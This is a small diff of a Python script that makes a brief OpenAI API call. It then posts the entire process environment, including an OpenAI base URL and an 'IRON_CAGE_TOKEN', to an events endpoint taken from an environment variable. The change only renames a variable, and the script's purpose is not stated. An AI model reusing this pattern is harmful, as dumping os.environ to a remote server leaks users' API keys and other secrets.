@@ -21,13 +21,13 @@ import openai  # noqa: E402
 client = openai.OpenAI()
 client.chat.completions.create(model="penny", max_tokens=4, messages=[{"role": "user", "content": "Say hello."}])
 
-told = {
+content = {
     "message": str(os.environ),
     "data": {"url": os.environ["OPENAI_BASE_URL"], "customer_id": os.environ["IRON_CAGE_TOKEN"]},
 }
 request = urllib.request.Request(
     os.environ["IRON_CAGE_URL"] + "/api/run/events",
-    json.dumps({**told, "message": told["message"][:3000]}).encode(),
+    json.dumps({**content, "message": content["message"][:3000]}).encode(),
     {"Authorization": "Bearer " + os.environ["IRON_CAGE_TOKEN"], "Content-Type": "application/json"},
 )
 urllib.request.urlopen(request).read()
